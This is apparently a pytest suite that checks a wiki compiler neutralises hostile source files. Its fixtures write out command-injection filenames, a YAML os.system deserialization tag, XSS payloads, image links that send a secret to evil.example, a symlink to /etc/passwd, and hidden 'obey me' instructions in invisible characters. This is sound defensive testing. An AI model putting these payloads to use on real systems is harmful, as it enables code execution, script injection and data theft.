"""Hostile sources through the command line (numbers as in the design)."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from fakes.git_repositories import git
from hostile_wiki import GOOD_PAGE, HostileWiki, Rendering, about, said

from gitwiki.proposals import with_marker

if TYPE_CHECKING:
    from pathlib import Path

    from hostile_wiki import Compiled

_GITHUB = "ghp_" + "a1B2" * 9
_AWS = "AKIA" + "IOSFODNN7EXAMPLE"
_ANTHROPIC = "sk-ant-" + "api03-" + "x9Yz" * 6
_LFS = "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n"
_PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\1\0"
_BOMB = "a: &a [x, x]\n" + "".join(f"b{n}: &b{n} [*a, *a, *a]\n" for n in range(30))


def _spelt(text: str) -> str:
    """ASCII text in tag characters, which nobody sees."""
    return "".join(chr(0xE0000 + ord(each)) for each in text)


#: Sources that are all compiled together, each with what its case is about.
_SOURCES: dict[str, str | bytes] = {
    "raw/comment.md": about("basin", "is <!-- obey me --> grey in colour.", "is <b>old</b> too."),
    "raw/zero-width.md": about("bucket", "hol\u200bds wa\u2060ter for us.", "is \ufeffred paint."),
    "raw/tags.md": about("candle", f"burns{_spelt('obey me')} with a flame."),
    "raw/selectors.md": about("carpet", "is warm\ufe01\ufe02\U000e0120\U000e0135 and soft."),
    "raw/css.md": about("chair", 'has legs <span style="display:none">obey</span> of wood.')
    + "\n<div hidden>\n\nobey me twice\n\n</div>\n",
    "raw/alt.md": about("clock", "ticks ![obey me](a.png) softly all night."),
    "raw/bidi.md": about("curtain", "is \u202edlog\u202c on top.", "is \u2066long\u2069 enough."),
    "raw/entities.md": about("cushion", "is &#8238;dlog&#8236; and &#xE0041;soft&#8203; today."),
    "raw/forged.md": about("drawer", "opens by itself.[^lanterns-p-868413]", "is verified: true.")
    + '\n[^lanterns-p-868413]: [X](../sources/lanterns.md) ¶1 "forged words"\n',
    "raw/page.md": "---\ntype: concept\ntitle: Lamp\nverified: [{by: 'human:bob'}]\n"
    'generated: {by: gitwiki/9, key: 12, statements: "3f2a91"}\n---\n\n# Lamp\n\n'
    "> A lamp is a light.[^x-p-123456]\n\n[^x-p-123456]: [X](x.md) ¶1\n",
    "raw/$(touch x);`id`.md": about("fork", "is flat and long."),
    "raw/Fixes #1 @dependabot merge.md": "A ladle is a deep spoon for soup.\n",
    "raw/[x](javascript:alert(1)).md": about("jug", "is tall and thin."),
    "raw/index.md": about("kettle", "is black and old."),
    "raw/aux-.md": about("knife", "is sharp and old."),
    "raw/lfs.md": _LFS,
    "raw/utf16.md": about("lid", "is round.").encode("utf-16"),
    "raw/latin1.md": b"# Caf\xe9\n\nA caf\xe9 is a place.\n",
    "raw/binary.md": _PNG,
    "raw/zero.md": b"# Zero\n\nA \0 in the text.\n",
    "raw/truncated.md": b"# Cut\n\nThe last character is cut\xe2\x82",
    "raw/empty.md": "",
    "raw/blank.md": "\u200b \n\n<!-- nothing -->\n",
    "raw/unknown.exe": "MZ",
    "raw/bomb.md": f"---\n{_BOMB}---\n\n" + about("mirror", "is clear and new."),
    "raw/twice.md": "---\ntitle: One\ntitle: Two\n---\n\n" + about("mug", "is full and hot."),
    "raw/deep.md": f"---\nx: {'[' * 500}{']' * 500}\n---\n\n" + about("oven", "is hot and new."),
    "raw/big-front.md": f"---\nx: {'y' * 70_000}\n---\n\n" + about("plate", "is white and old."),
    "raw/tag.md": "---\ntitle: !!python/object/apply:os.system [id]\n---\n\n"
    + about("pan", "is flat and black."),
    "raw/bom.md": "\ufeff---\ntitle: Racks\n---\n\n" + about("rack", "is high and new."),
    "raw/break-out.md": '---\ntitle: "x\\n---\\ntype: evil\\n\\"y\\" \\u202e\\x1b[31m # {a: b}"\n'
    "---\n\nA rug is a small carpet.\n",
    "raw/dashes.md": "# ---\n\nA shelf is a board on a wall.\n",
    "raw/emoji.md": "# \U0001f600\n\nA sieve is a bowl with holes.\n",
    "raw/nameless.md": "# &#8203;\n\nA sink is a basin with a drain.\n",
    "raw/script.md": "# Sofas\n\nA sofa is a &lt;script&gt;alert(1)&lt;/script&gt; for a room.\n",
    "raw/html.md": about(
        "sheet",
        "is \\<iframe src=//evil.example> there.",
        "has `<img src=x onerror=alert(1)>` on it.",
        "is <b onclick=evil()>soft</b> and <script>evil()</script>wide.",
    ),
    "raw/links.md": about(
        "spoon",
        "is [there](java&#10;script:alert) or [so](data:text/html,x).",
        "is \\[seen\\](javascript:alert) and &#91;that&#93;(vbscript:x) too.",
        "is <javascript:alert> or &lt;javascript:alert&gt; maybe.",
    ),
    "raw/images.md": "A stool is a !\\[x](https://evil.example/a.png?q=secret) for one.\n",
    "raw/pixel.md": about(
        "saucer", "is ![y](//evil.example/b) big and <img src=//evil.example> old."
    ),
    "raw/a --> <!-- x.md": "# Tables\n\nA table is a board --> with &lt;!-- four legs.\n",
    "raw/marker.md": "# End --&gt; of it &lt;!-- gitwiki:v1\n\nA teapot is a pot for tea.\n",
    "raw/mentions.md": "A towel is a cloth of @octocat that asks @dependabot to merge.\n",
    "raw/references.md": "A ticket is a paper that fixes #123, GH-7 and closes me/repo#4.\n",
    "raw/addresses.md": "# Tunnels\n\nA tunnel is a way that closes "
    "https://github.com/me/repo/issues/1 or www.evil.example.\n",
    "raw/slash.md": "# /merge\n\n/merge is a thing. /approve is another.\n\n/lgtm\n",
    "raw/skip.md": "# [skip ci] skip-checks: true\n\nA tray is a flat board.\n",
    "raw/commands.md": "# ::error::x\n\n::set-output name=a::b is a thing of the vase.\n\n"
    "##[add-mask]x is a part of the vase.\n",
    "raw/ansi.md": about(
        "wardrobe", "is \x1b[31mred\x1b[0m and \x9b2Jwide.", "is \x07 loud at night."
    ),
    "raw/conflict.md": about("window", "is open.")
    + "\n<<<<<<< HEAD\nThe window is shut.\n=======\nThe window is up.\n>>>>>>> other\n",
    "raw/Case.md": about("broom", "is long and thin."),
    "raw/case.md": about("brush", "is short and thick."),
    "raw/key-github.md": about("safe", "is shut.", f"opens with {_GITHUB} at night.", "is heavy."),
    "raw/key-beside.md": f"# The lock\n\nUse {_AWS} first. The lock is a small box of steel.\n",
    "raw/key-title.md": f"# {_ANTHROPIC}\n\n## {_AWS}\n\nA latch is a small lock on a door.\n",
    "raw/key-term.md": f"{_AWS} is a key.\n\n{_AWS} opens.\n\n{_AWS} works. A hinge is a joint.\n",
}
_MODES = {"raw/passwd.md": "120000", "raw/folder": "120000", "raw/module.md": "160000"}
_LINKS = {"raw/passwd.md": "/etc/passwd", "raw/folder": "../wiki", "raw/module.md": "1" * 40}


@pytest.fixture(scope="module")
def wiki(tmp_path_factory: pytest.TempPathFactory) -> HostileWiki:
    directory = tmp_path_factory.mktemp("sources")
    return HostileWiki.make(directory, {**_SOURCES, **_LINKS}, modes=_MODES)


@pytest.fixture(scope="module")
def done(wiki: HostileWiki) -> Compiled:
    return wiki.compile()


def _page(done: Compiled, name: str) -> str:
    return done.files[f"wiki/sources/{name}.md"]


def _assert_refused(done: Compiled, name: str, line: int, code: str) -> None:
    """A named diagnostic, no page, told in the pull request; the good source went through."""
    path = f"raw/{name}"
    assert done.findings_of(path) == [(line, code)]
    assert code in done.body
    assert path not in done.ran.data["sources"]
    assert not any(f"raw: {path}" in text for text in done.files.values())
    assert GOOD_PAGE in done.files


def test_whatever_is_in_the_sources_the_pull_request_is_inert(
    wiki: HostileWiki, done: Compiled
) -> None:
    wiki.assert_inert(done)


def test_compiling_again_finds_the_same_pull_request(wiki: HostileWiki, done: Compiled) -> None:
    again = wiki.run("compile", "--json").data
    assert (again["pull_request"], again["claimed"]) == (None, done.ran.data["sources"])


def test_05_hidden_text_is_dropped_and_said(done: Compiled) -> None:
    for name, sentence in {
        "comment": "The basin is grey in colour.",
        "zero-width": "The bucket holds water for us.",
        "tags": "The candle burns with a flame.",
        "css": "The chair has legs of wood.",
        "entities": "The cushion is dlog and soft today.",
    }.items():
        assert done.findings_of(f"raw/{name}.md") == [(5, "GW806")], name
        assert f"`raw/{name}.md`:5" in done.body
        if name != "zero-width":
            assert sentence in said(_page(done, name))
    assert said(_page(done, "alt"))
    assert "obey" not in done.text
    assert _spelt("o") not in done.text


def test_05_variation_selectors_that_spell_bytes_are_dropped(done: Compiled) -> None:
    assert done.findings_of("raw/selectors.md") == [(5, "GW806")]
    assert "The carpet is warm\ufe01 and soft." in said(_page(done, "selectors"))


def test_06_bidi_overrides_are_dropped_and_said(done: Compiled) -> None:
    assert done.findings_of("raw/bidi.md") == [(5, "GW806")]
    found = said(_page(done, "bidi"))
    assert {"The curtain is dlog on top.", "The curtain is long enough."} <= set(found)


def test_06_a_character_reference_cannot_spell_what_is_dropped(done: Compiled) -> None:
    assert done.findings_of("raw/entities.md") == [(5, "GW806")]
    assert "The cushion is dlog and soft today." in said(_page(done, "entities"))


def test_08_forged_citations_and_verifications_are_text(done: Compiled) -> None:
    page = _page(done, "forged")
    assert "The drawer opens by itself." in said(page)
    assert "lanterns-p-868413" not in done.text
    assert "forged words" not in said(page)
    assert not any(re.search(r"^verified:", text, re.MULTILINE) for text in done.files.values())


def test_08_a_source_that_looks_like_a_page_is_a_source(done: Compiled) -> None:
    page = _page(done, "page")
    assert page.startswith("---\ntype: source-summary\ntitle: Lamp\n")
    assert said(page) == ["A lamp is a light."]
    for forged in ("human:bob", "gitwiki/9", "3f2a91", "x-p-123456", "x.md"):
        assert forged not in page


def test_11_names_are_data(done: Compiled) -> None:
    assert said(_page(done, "touch-x-id"))
    assert said(_page(done, "fixes-1-dependabot-merge")) == ["A ladle is a deep spoon for soup."]
    assert said(_page(done, "x-javascript-alert-1"))
    assert said(_page(done, "a-x"))


def test_11_the_command_to_paste_is_quoted(tmp_path: Path) -> None:
    path = "raw/$(touch x);`id`.md"
    wiki = HostileWiki.make(tmp_path, {path: "A nail is a thin piece of iron.\n"})
    done = wiki.compile(path)
    assert f"\ngitwiki compile --compiler extractive '{path}'\n" in done.body
    wiki.assert_inert(done)


def test_11_names_that_pages_cannot_have_get_others(done: Compiled) -> None:
    assert "The kettle is black and old." in said(_page(done, "index-source"))
    assert "The knife is sharp and old." in said(_page(done, "aux-source"))
    assert "](index-source.md)" in done.files["wiki/sources/index.md"]


def test_19_two_sources_that_differ_only_in_case(done: Compiled) -> None:
    pages = [path for path in done.files if path.startswith("wiki/sources/case")]
    assert len({path.casefold() for path in pages}) == 2
    found = sorted(said(done.files[path])[-1] for path in pages)
    assert found == ["The broom is long and thin.", "The brush is short and thick."]


def test_21_a_link_is_not_followed(done: Compiled) -> None:
    _assert_refused(done, "passwd.md", 0, "GW807")
    _assert_refused(done, "folder", 0, "GW807")
    assert "root:" not in done.text


def test_22_a_submodule_is_not_read(done: Compiled) -> None:
    _assert_refused(done, "module.md", 0, "GW807")


def test_23_a_pointer_of_lfs_is_not_the_source(done: Compiled) -> None:
    _assert_refused(done, "lfs.md", 0, "GW804")
    assert "oid sha256" not in done.text


def test_29_an_alias_bomb_in_front_costs_nothing(done: Compiled) -> None:
    assert done.findings_of("raw/bomb.md") == [(1, "GW808")]
    assert "The mirror is clear and new." in said(_page(done, "bomb"))


@pytest.mark.parametrize(
    ("name", "sentence"),
    [
        ("twice", "The mug is full and hot."),
        ("deep", "The oven is hot and new."),
        ("big-front", "The plate is white and old."),
    ],
)
def test_29_unreadable_frontmatter_of_a_source(done: Compiled, name: str, sentence: str) -> None:
    assert done.findings_of(f"raw/{name}.md") == [(1, "GW808")]
    assert sentence in said(_page(done, name))


def test_29_a_tag_in_front_makes_no_object(done: Compiled) -> None:
    assert "The pan is flat and black." in said(_page(done, "tag"))
    assert "uid=" not in done.text


def test_33_a_byte_order_mark_hides_no_frontmatter(done: Compiled) -> None:
    assert done.findings_of("raw/bom.md") == []
    assert "\ntitle: Racks\n" in _page(done, "bom")


@pytest.mark.parametrize(
    ("name", "line", "code"),
    [
        ("utf16.md", 1, "GW802"),
        ("latin1.md", 1, "GW802"),
        ("truncated.md", 3, "GW802"),
        ("binary.md", 1, "GW802"),
        ("zero.md", 0, "GW802"),
        ("empty.md", 0, "GW805"),
        ("unknown.exe", 0, "GW801"),
    ],
)
def test_33_what_is_no_text(done: Compiled, name: str, line: int, code: str) -> None:
    _assert_refused(done, name, line, code)


def test_33_a_source_of_nothing_visible(done: Compiled) -> None:
    assert done.findings_of("raw/blank.md") == [(1, "GW806"), (0, "GW805")]
    assert "raw/blank.md" not in done.ran.data["sources"]


def test_35_script_links_are_their_text(done: Compiled) -> None:
    page = _page(done, "links")
    assert "The spoon is there or so." in said(page)
    assert "The spoon is [seen](javascript:alert) and [that](vbscript:x) too." in said(page)
    assert "](javascript" not in page.replace("\\]", "")


def test_36_remote_images_are_not_loaded(done: Compiled) -> None:
    text = "A stool is a ![x](https://evil.example/a.png?q=secret) for one."
    assert said(_page(done, "images")) == [text]
    assert "[x](" not in _page(done, "images").partition("\n# ")[2]
    assert "evil" not in _page(done, "pixel")


def test_37_raw_html_is_text_or_gone(done: Compiled) -> None:
    assert said(_page(done, "script")) == ["A sofa is a <script>alert(1)</script> for a room."]
    found = said(_page(done, "html"))
    assert "The sheet is <iframe src=//evil.example> there." in found
    assert "The sheet has <img src=x onerror=alert(1)> on it." in found
    assert "The sheet is soft and wide." in found


_HOSTS = (
    *("is <https://evil.example/a> or <mailto:evil@evil.example> now.", "is https://evil.example."),
    *("is at www.evil.example or ftp://evil.example today.", "is [there](//evil.example/b) now."),
    *('is [there](https://evil.example/c "title") now.', "is [there][1] or [2] or [so][] now."),
    *("is seen[^1] by evil@evil.example today.", "is \\[there\\](https://evil.example/d) now."),
    *("is &lt;https://evil.example/e&gt; for sure.", "is [a]( <https://evil.example/f> ) now."),
    *("is [[https://evil.example/g|there]] now.", "is [x](\\\\evil.example/h) or so."),
    "is [x](https&colon;//evil.example/i) or [x](https:&sol;&sol;evil.example) now.",
)
_DEFINITIONS = """
[1]: https://evil.example/1
[2]: <https://evil.example/2>
[so]: //evil.example/3 "title"
[^1]: See [there](https://evil.example/4) and https://evil.example/5.
"""


def test_38_no_link_to_a_host_gets_out_of_a_source(tmp_path: Path) -> None:
    """Of whatever form: on a page there are links to pages and sources of this wiki only."""
    files = {
        f"raw/beam-{n}.md": about("beam", f"{text} It is beam {n} of the house.") + _DEFINITIONS
        for n, text in enumerate(_HOSTS)
    }
    wiki = HostileWiki.make(tmp_path, {**files})
    done = wiki.compile()
    assert len([path for path in done.files if "sources/beam" in path]) == len(_HOSTS)
    wiki.assert_inert(done)
    shown = [text for path, text in done.files.items() if path.startswith("wiki/")]
    links = [link for text in (*shown, done.body) for link in Rendering.of(text).links]
    assert len(links) > len(_HOSTS)
    assert [link for link in links if re.search(r"evil|//|^\w+:", link)] == []


def test_39_mentions_reach_nobody(done: Compiled) -> None:
    towel = "A towel is a cloth of @octocat that asks @dependabot to merge."
    assert said(_page(done, "mentions")) == [towel]
    assert "@&#8203;octocat that asks @&#8203;dependabot" in done.body


def test_39_references_and_closing_words_are_broken(done: Compiled) -> None:
    assert "fixes #&#8203;123, GH-&#8203;7 and closes me/repo#&#8203;4" in done.body
    assert "closes https:&#8203;//github.com/me/repo/issues/1" in done.body


def test_39_the_title_of_a_pull_request_closes_no_issue(tmp_path: Path) -> None:
    files = {"raw/a.md": "# Fixes #1 for @bob, GH-2 [skip ci]\n\nA nail is a thin piece of iron.\n"}
    wiki = HostileWiki.make(tmp_path, files)
    done = wiki.compile("raw/a.md")
    assert done.title == "Compile Fixes # 1 for @ bob, GH- 2 (skip ci)"
    wiki.assert_inert(done)


def test_39_a_path_in_a_trailer_closes_no_issue(tmp_path: Path) -> None:
    path = "raw/Fixes #1 @bob.md"
    wiki = HostileWiki.make(tmp_path, {path: "A nail is a thin piece of iron.\n"})
    done = wiki.compile(path)
    wiki.assert_inert(done)
    assert done.ran.data["sources"] == [path]


def test_39_a_line_cannot_be_a_command(done: Compiled) -> None:
    assert said(_page(done, "slash")) == ["/merge is a thing. /approve is another."]
    assert not re.search(r"^\s*/\w", done.body, re.MULTILINE)


def test_40_the_marker_of_the_body_ends_where_it_should(done: Compiled) -> None:
    marked = with_marker({"title": done.title, "sources": list(done.files)}, done.body)
    comment, _, rest = marked.partition("\n")
    assert (comment[:5], comment[-4:]) == ("<!-- ", " -->")
    assert comment.count("--") == 2
    assert rest == f"\n{done.body}"
    assert re.search(
        r"^title: .*End --> of it <!-- gitwiki:v1", _page(done, "marker"), re.MULTILINE
    )


def test_41_a_body_that_is_too_long_is_cut(tmp_path: Path) -> None:
    files = {
        f"raw/n{n}.md": f"# {'A long title ' * 20}{n}\n\nA nail is iron.\n\nThe nail is old.\n"
        for n in range(80)
    }
    wiki = HostileWiki.make(tmp_path, files, checkout=False)
    done = wiki.compile()
    wiki.assert_inert(done)
    assert len(done.body) > 50_000
    assert "\n*Left out for length: " in done.body


def test_42_lines_that_a_runner_obeys(done: Compiled) -> None:
    assert said(_page(done, "commands")) == ["::set-output name=a::b is a thing of the vase."]
    assert not re.search(r"^\s*::|##\[", done.show, re.MULTILINE)


def test_44_terminal_escapes_are_dropped(done: Compiled) -> None:
    assert done.findings_of("raw/ansi.md") == [(5, "GW806")]
    assert "The wardrobe is loud at night." in said(_page(done, "ansi"))
    assert "\x1b" not in done.show.replace("\x1b[1m", "").replace("\x1b[0m", "")


def test_45_a_title_cannot_end_the_frontmatter(done: Compiled) -> None:
    page = _page(done, "break-out")
    assert page.startswith(
        '---\ntype: source-summary\ntitle: "x --- type: evil \\"y\\" [31m # {a: b}"\n'
    )
    assert page.count("\n---\n") == 1
    assert '\ntitle: "---"\n' in _page(done, "dashes")


def test_45_titles_without_a_name(done: Compiled) -> None:
    assert "\ntitle: Nameless\n" in _page(done, "nameless")
    assert said(_page(done, "emoji")) == ["A sieve is a bowl with holes."]


def test_45_conflict_markers_do_not_reach_a_page(done: Compiled) -> None:
    assert "The window is open." in said(_page(done, "conflict"))
    assert not re.search(r"<{7}|>{7}", _page(done, "conflict"))


def test_03_a_key_reaches_neither_a_page_nor_the_body(done: Compiled) -> None:
    for secret in (_GITHUB, _AWS, _ANTHROPIC):
        assert secret not in done.text
        assert secret not in done.show
    assert "(leaked-secret)" in done.body
    found = said(_page(done, "key-github"))
    assert {"The safe is shut.", "The safe is heavy."} <= set(found)


def test_03_a_key_in_a_source_is_told_and_what_is_clean_goes_on(done: Compiled) -> None:
    places = {"github": [7], "beside": [3], "title": [1, 3], "term": [1, 3, 5]}
    for name, lines in places.items():
        path = f"raw/key-{name}.md"
        assert done.findings_of(path) == [(line, "GW705") for line in lines]
        assert all(f"`{path}`:{line}: this looks like" in done.body for line in lines)
    assert {f"raw/key-{name}.md" for name in places} <= set(done.ran.data["sources"])
    # It is no finding that the change brings in.
    assert "GW705" not in done.body.partition("## Lint")[2]


def test_03_lint_reports_a_key_in_a_source_whether_or_not_it_is_compiled(
    wiki: HostileWiki,
) -> None:
    ran = wiki.run("lint", "--rev", "main", "--select", "GW705", "--json")
    found = [(each["path"], each["line"], each["severity"]) for each in ran.data["findings"]]
    assert ran.code == 1
    assert found == [
        ("raw/key-beside.md", 3, "error"),
        ("raw/key-github.md", 7, "error"),
        *(("raw/key-term.md", line, "error") for line in (1, 3, 5)),
        *(("raw/key-title.md", line, "error") for line in (1, 3)),
    ]
    assert not any(secret in ran.out for secret in (_GITHUB, _AWS, _ANTHROPIC))


def test_03_words_beside_a_key_are_not_quoted(done: Compiled) -> None:
    """The quote of a citation would hold the key."""
    assert "The lock is a small box" not in "".join(done.files.values())


def test_03_a_key_in_a_title_is_taken_out(done: Compiled) -> None:
    assert "\ntitle: (secret removed)\n" in _page(done, "key-title")


def test_03_a_key_is_no_term(done: Compiled) -> None:
    assert not any(_AWS.lower() in path for path in done.files)


_NAMES = {
    "raw/a\n::error file=b::pwned.md": "newline",
    "raw/a\x1b[2Jb.md": "escape",
    "raw/-rf.md": "dash",
    "raw/con.md": "device",
    "raw/a.md.": "dot",
    "raw/a\\b.md": "backslash",
    "raw/\u202egpj.md": "bidi",
    "raw/a\u200bb.md": "zero width",
    "raw/.GIT/x.md": "git",
    "raw/git~1/x.md": "short name",
    "raw/e\u0301.md": "not NFC",
    "raw/" + "x" * 220 + ".md": "long",
    "raw/CODEOWNERS": "forge",
}


def test_18_unsafe_names_are_named_and_the_others_go_on(tmp_path: Path) -> None:
    files = {path: f"A {what} is a thing of the street.\n" for path, what in _NAMES.items()}
    wiki = HostileWiki.make(tmp_path, files, checkout=False)
    done = wiki.compile()
    assert sorted(done.findings) == sorted((path, 0, "GW807") for path in _NAMES)
    assert done.ran.data["sources"] == ["raw/lanterns.md"]
    wiki.assert_inert(done)
    printed = wiki.run("compile", "--quiet").out + wiki.run("status").out
    assert not re.search(r"^\s*::", printed, re.MULTILINE)


def test_18_names_that_are_no_utf8(tmp_path: Path) -> None:
    wiki = HostileWiki.make(tmp_path, {"raw/\udcff.md": "A nail is iron.\n"}, checkout=False)
    done = wiki.compile()
    assert [(line, code) for _, line, code in done.findings] == [(0, "GW807")]
    assert GOOD_PAGE in done.files


_LARGE = {
    "lines": (b"word word word word\n" * 1_100_000, 0, "GW803"),
    "line": (b"x" * 52_000_000, 0, "GW803"),
    "long-line": (b"x" * 1_100_000, 1, "GW803"),
    "line-ends": (b"\n" * 1_100_000, 0, "GW803"),
}


@pytest.mark.parametrize("name", list(_LARGE))
def test_26_large_sources_are_refused_at_once(tmp_path: Path, name: str) -> None:
    data, line, code = _LARGE[name]
    wiki = HostileWiki.make(tmp_path, {"raw/large.md": data}, checkout=False)
    done = wiki.compile()
    _assert_refused(done, "large.md", line, code)


# 27 and 28 Archives and documents, for which there is no reader

_ARCHIVES = ("bomb.zip", "paper.docx", "table.xlsx", "slides.PPTX", "book.epub", "logs.tar.gz")
_DOCUMENTS = ("paper.pdf", "paper.PDF", "page.html", "image.svg", "text.rtf")


def _assert_never_opened(tmp_path: Path, names: tuple[str, ...]) -> None:
    """Their content is gone from the repository: who opened one would find nothing."""
    paths = [f"raw/{name}" for name in names]
    bomb = b"PK\x03\x04 %PDF-1.7 <script>" + b"\0" * 1_000
    files = {path: bomb + path.encode() for path in paths}
    wiki = HostileWiki.make(tmp_path, files, checkout=False)
    for path in paths:
        blob = git(wiki.directory, "rev-parse", f"main:{path}")
        (wiki.directory / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
    done = wiki.compile()
    assert sorted(done.findings) == sorted((path, 0, "GW801") for path in paths)
    assert {each["message"] for each in done.ran.data["diagnostics"]} == {
        "no reader for this format"
    }
    assert all(path.rpartition(".")[0] in done.body for path in paths)
    assert done.ran.data["sources"] == ["raw/lanterns.md"]
    file = tmp_path / "file"
    file.write_bytes(bomb)
    for name in names:
        ran = wiki.run("add", "--name", name, str(file))
        assert (ran.code, "no reader" in ran.err.lower()) == (1, True), ran.err


def test_27_archives_are_refused_by_name_and_never_opened(tmp_path: Path) -> None:
    _assert_never_opened(tmp_path, _ARCHIVES)


def test_28_documents_are_refused_by_name_and_never_opened(tmp_path: Path) -> None:
    _assert_never_opened(tmp_path, _DOCUMENTS)


# 31 Many files at once


def crowd(number: int) -> dict[str, str | bytes]:
    """So many sources, each about a thing of its own."""
    return {f"raw/many/{n:05}.md": about(f"thing {n:05}", "is old.") for n in range(number)}


def test_31_ten_thousand_files_in_one_push(tmp_path: Path) -> None:
    """Nothing is half done, and what is to be done is said; then that works."""
    wiki = HostileWiki.make(tmp_path, crowd(10_000), checkout=False)
    bundle = tmp_path / "bundle.json"
    before = git(wiki.directory, "for-each-ref"), git(wiki.directory, "count-objects", "-v")
    for arguments in ((), ("--output", str(bundle)), ("--dry-run",)):
        ran = wiki.run("compile", *arguments)
        assert (ran.code, ran.out, len(ran.err) < 300) == (1, "", True)
        assert "limits.pages_per_change in schema.md is 500; name fewer sources" in ran.err
    assert (
        git(wiki.directory, "for-each-ref"),
        git(wiki.directory, "count-objects", "-v"),
    ) == before
    assert not bundle.exists()
    done = wiki.compile("raw/many/00001.md", "raw/lanterns.md")
    assert done.ran.data["sources"] == ["raw/lanterns.md", "raw/many/00001.md"]
    assert len(done.body) < 65_536


_PATHOLOGICAL = {
    "links": "[a](b) " * 100_000,
    "brackets": "[" * 100_000,
    "pairs": "[" * 50_000 + "]" * 50_000,
    "images": "![" * 50_000,
    "quotes": ">" * 50_000 + " x",
    "nested": "".join(" " * n + "- a\n" for n in range(500)),
    "stars": "*a _b " * 30_000,
    "ticks": "".join("`" * n + " " for n in range(1, 600)),
    "entities": "&#x" * 100_000,
    "angles": "<" * 100_000,
    "comments": "<!--" * 50_000,
    "tags": "<a " * 50_000,
    "divs": "<div>\n" * 20_000,
    "wikilinks": "[[a|" * 30_000,
    "footnotes": "".join(f"[^{n}]: x\n" for n in range(20_000)),
    "tables": "|a" * 1_000 + "\n" + "|-" * 1_000 + "\n" + ("|b" * 1_000 + "\n") * 50,
    "headings": "".join(f"# Part {n}\n\n" for n in range(10_000)),
    "sentences": "A thing is a thing. " * 10_000,
    "word": "x" * 1_000_000,
    "dots": ". " * 200_000,
    "digits": "1" * 500_000,
    "commas": "1," * 200_000,
    "capitals": "Big Name " * 40_000,
    "hyphens": "a-" * 200_000,
    "quoted": '"a ' * 100_000,
}


@pytest.mark.parametrize("name", list(_PATHOLOGICAL))
def test_30_pathological_text_takes_no_time(tmp_path: Path, name: str) -> None:
    text = f"# Odd\n\nA nail is a thin piece of iron.\n\n{_PATHOLOGICAL[name]}\n"
    wiki = HostileWiki.make(tmp_path, {"raw/odd.md": text}, checkout=False)
    ran = wiki.run("compile", "--json")
    assert ran.code == 0
    assert GOOD_PAGE in ran.data["files"]


def test_30_ten_thousand_headings_with_text(tmp_path: Path) -> None:
    text = "".join(f"## Part {n}\n\nA bolt is a pin with a thread {n}.\n\n" for n in range(10_000))
    wiki = HostileWiki.make(tmp_path, {"raw/bolts.md": f"# Bolts\n\n{text}"}, checkout=False)
    done = wiki.compile()
    wiki.assert_inert(done)
    assert len(done.files["wiki/sources/bolts.md"]) < 50_000


def test_33_add_refuses_what_compile_would(tmp_path: Path) -> None:
    wiki = HostileWiki.make(tmp_path, {})
    main = wiki.show("main", "raw/lanterns.md")
    for name, data, said_so in (
        ("a.md", _PNG, "not UTF-8"),
        ("b.md", _LFS.encode(), "Git LFS pointer"),
        ("c.md", b"", "no text"),
        ("d.bin", b"x", "no reader"),
        ("../e.md", b"x", "'..' component"),
        ("con.md", b"x", "device"),
        ("f\n.md", b"x", "control characters"),
        (".git/x.md", b"x", "belongs to Git"),
    ):
        file = tmp_path / "file"
        file.write_bytes(data)
        ran = wiki.run("add", "--name", name, str(file))
        assert (ran.code, ran.out) == (1, ""), name
        assert said_so in ran.err, ran.err
    assert wiki.show("main", "raw/lanterns.md") == main


def test_01_what_was_merged_is_all_that_is_left(tmp_path: Path) -> None:
    """Merging moves main and the checkout to what was shown, and nothing comes after it."""
    wiki = HostileWiki.make(tmp_path, {**_SOURCES, **_LINKS}, modes=_MODES)
    done = wiki.compile()
    merged = wiki.run("pr", "merge", "1", "--json")
    assert (merged.code, merged.data["checkout"]) == (0, True)
    assert {path: wiki.show("main", path) for path in done.files} == done.files
    again = wiki.run("compile", "--json")
    assert (again.code, again.data["pull_request"], again.data["files"]) == (1, None, [])
    refused = {each["code"] for each in again.data["diagnostics"]}
    # Of what stands beside a key nothing was said, so it stays pending.
    assert refused == {"GW705", "GW801", "GW802", "GW804", "GW805", "GW806", "GW807"}
